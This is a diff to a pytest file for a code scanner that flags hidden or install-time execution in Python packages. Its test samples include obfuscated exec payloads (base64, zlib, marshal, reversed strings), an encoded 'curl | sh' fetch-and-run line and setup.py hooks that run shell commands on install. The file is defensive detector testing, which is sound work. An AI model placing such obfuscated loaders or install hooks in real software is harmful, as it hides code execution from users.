@@ -10,6 +10,7 @@ import pytest
 
 from fimci.model import Capability
 from fimci.readers.code import python
+from fimci.readers.code.python_syntax.program import program
 
 DOWNLOAD = """
 import requests
@@ -189,6 +190,7 @@ open(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "w").write("x"
 
 CODE = b"import os\nos.system('id')\n"
 B64 = base64.b64encode(CODE).decode()
+NEST = "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))"
 SHELL = base64.b64encode(b"curl https://files.invalid | sh").decode()
 B85 = base64.b85encode(zlib.compress(CODE))
 DUMPED = base64.b64encode(marshal.dumps(1))
@@ -205,8 +207,7 @@ PAYLOADS = [
     f"import codecs\nexec(codecs.decode({CODE.hex()!r}, 'hex'))",
     f"import zlib\nexec(zlib.decompress({zlib.compress(CODE)!r}))",
     f"import zlib, base64\nexec(zlib.decompress(base64.b85decode({B85!r})))",
-    "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
-    + f"exec((_)({base64.b64encode(zlib.compress(CODE))[::-1]!r}))",
+    f"{NEST}\nexec((_)({base64.b64encode(zlib.compress(CODE))[::-1]!r}))",
     f"import marshal, base64\nexec(marshal.loads(base64.b64decode({DUMPED!r})))",
     f"import marshal, zlib\nexec(marshal.loads(zlib.decompress({zlib.compress(marshal.dumps(1))!r})))",
     f"exec(({int.from_bytes(CODE, 'big')}).to_bytes({len(CODE)}, 'big'))",
@@ -256,3 +257,56 @@ def test_what_is_run_or_stays_is_told_at_its_line(name: str, text: str) -> None:
 @pytest.mark.parametrize("text", PAYLOADS)
 def test_hidden_code_that_is_run_is_told(text: str) -> None:
     assert lines(text, "encoded-payload")
+
+
+SETUP = """
+from setuptools import setup
+from setuptools.command.{0} import {0}
+import os
+class Step({0}):
+    def run(self):
+        os.system("id")
+setup(cmdclass={{"{1}": Step}})
+"""
+
+
+@pytest.mark.parametrize("command", ["install", "develop", "egg_info", "build_py", "sdist", "bdist_wheel"])
+def test_commands_of_an_installation_run_at_install(command: str) -> None:
+    assert phase(SETUP.format(command, command), "shell") == "install"
+
+
+def test_what_an_owner_does_by_hand_does_not_run_at_install() -> None:
+    assert phase(SETUP.format("install", "upload"), "shell") == "call"
+    asked = "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n"
+    assert phase(asked, "shell") == "call"
+    assert phase(asked, "self-propagation") == ""
+    assert phase("import os, sys\nif 'install' in sys.argv:\n    os.system('id')\n", "shell") == "install"
+
+
+def phase(text: str, name: str) -> str:
+    found = python.read("p/setup.py", text.encode())
+    return next((one.phase for one in found if isinstance(one, Capability) and one.name == name), "")
+
+
+@pytest.mark.parametrize(
+    ("text", "targets"),
+    [
+        ("import a.b, os\nfrom .c import d\nfrom . import e\nos.system('id')", ["a.b", "os", ".c", ".e"]),
+        ("import importlib\nimportlib.import_module('x.y')", ["importlib", "x.y"]),
+        ("__import__('x')", ["x"]),
+        ("import runpy\nrunpy.run_path('x.py')", ["runpy", "x.py"]),
+        ("import runpy\nrunpy.run_module('x.y')", ["runpy", "x.y"]),
+        ("import subprocess, sys\nsubprocess.run([sys.executable, 'x.py'])", ["subprocess", "sys", "x.py"]),
+        ("import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'x'])", ["subprocess", "sys", "x"]),
+        ("import os\nos.system('python3 -u x.py --y')", ["os", "x.py"]),
+        ("exec(open('x.py').read())", ["x.py"]),
+        (
+            "import os\nd = os.path.dirname(__file__)\nexec(open(os.path.join(d, 'x.py')).read())",
+            ["os", "x.py"],
+        ),
+        ("with open('v.py') as f:\n    exec(f.read())", ["v.py"]),
+    ],
+)
+def test_what_is_loaded_is_referred_to(text: str, targets: list[str]) -> None:
+    found = [reference.target for reference in program(text.encode(), "a.py").references]
+    assert found == targets
